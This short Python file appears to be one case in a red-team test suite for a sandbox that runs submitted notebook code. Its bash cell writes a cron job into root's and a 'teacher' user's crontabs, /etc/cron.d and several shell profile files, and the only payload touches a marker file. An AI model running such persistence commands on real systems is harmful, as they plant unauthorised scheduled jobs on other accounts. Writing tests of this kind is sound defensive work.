"""Jobs are scheduled for later, in cron tables and the shell's startup files.

Success: the attack leaves a trace.
"""

ALONE = True


def attack(submission):
    submission.first("""
        %%bash
        for place in /var/spool/cron/crontabs/root /var/spool/cron/crontabs/teacher \\
                     /etc/cron.d/red ~/.profile /home/teacher/.profile /etc/profile.d/red.sh
        do
            echo '* * * * * touch /tmp/red-team-was-here' >> $place
        done
        crontab -l | { cat; echo '* * * * * touch /tmp/red-team-was-here'; } | crontab -
        true
    """)
